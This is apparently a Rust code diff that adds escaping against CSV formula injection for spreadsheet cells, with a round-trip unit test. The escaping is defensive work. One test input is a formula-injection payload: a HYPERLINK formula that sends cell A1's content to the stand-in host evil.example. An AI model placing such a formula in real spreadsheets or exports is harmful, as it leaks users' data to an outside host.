@@ -204,6 +204,22 @@ pub fn unit_key(name: &str) -> String {
     key
 }
 
+/// A CSV cell that a spreadsheet shows as text: a cell beginning with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return (which Excel and WPS run as a formula) gets
+/// a `'` in front (OWASP's rule), and so does one beginning with `'`, so that
+/// [`from_spreadsheet_cell`] gives every cell back exactly.
+pub fn to_spreadsheet_cell(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => format!("'{cell}").into(),
+        _ => cell.into(),
+    }
+}
+
+/// The text of a cell written by [`to_spreadsheet_cell`].
+pub fn from_spreadsheet_cell(cell: &str) -> &str {
+    cell.strip_prefix('\'').unwrap_or(cell)
+}
+
 /// Every kind of line end (`\r\n`, a lone `\r` as old Mac files have, U+2028 and
 /// U+2029) as `\n`. Borrowed when there is nothing to change.
 pub fn normalize_newlines(s: &str) -> std::borrow::Cow<'_, str> {
@@ -290,6 +306,30 @@ fn escape_html_pieces<E>(
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn spreadsheet_cells_never_start_a_formula_and_read_back_exactly() {
+        for cell in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
+            "@SUM(1+1)局",
+            "-2+3",
+            "+1",
+            "\t=1",
+            "\r=1",
+            "'=1",
+            "'",
+            "财政局",
+            "",
+        ] {
+            let safe = to_spreadsheet_cell(cell);
+            assert!(
+                !safe.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{safe}"
+            );
+            assert_eq!(from_spreadsheet_cell(&safe), cell);
+        }
+        assert_eq!(to_spreadsheet_cell("财政局"), "财政局");
+    }
 
     #[test]
     fn folds_traditional_one_char_for_one() {
